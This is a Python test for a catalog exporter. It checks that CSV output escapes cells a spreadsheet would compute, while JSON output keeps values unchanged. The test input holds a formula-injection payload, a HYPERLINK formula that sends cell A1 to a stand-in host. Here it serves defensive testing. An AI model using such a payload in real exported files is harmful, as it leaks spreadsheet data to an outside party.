"""The catalog of a delivery: what programs read is as it was written, and what spreadsheets read computes nothing."""

import csv
import io
import json

from stages.delivery.catalog import catalog_csv, catalog_json

ORDERED = '=HYPERLINK("http://elsewhere/"&A1)'


def test_a_name_that_a_spreadsheet_would_compute_is_a_text_there_and_as_it_was_to_programs():
    row = {"file": "clips/a_1.flac", "name": ORDERED, "title": "@me", "loudness": -16.0, "scores": {}, "bytes": 5}
    (cells,) = csv.DictReader(io.StringIO(catalog_csv([row]).decode()))
    assert (cells["name"], cells["title"]) == (f"'{ORDERED}", "'@me")
    assert (cells["file"], cells["loudness"]) == ("clips/a_1.flac", "-16.0")
    assert json.loads(catalog_json([row]))["clips"] == [row]
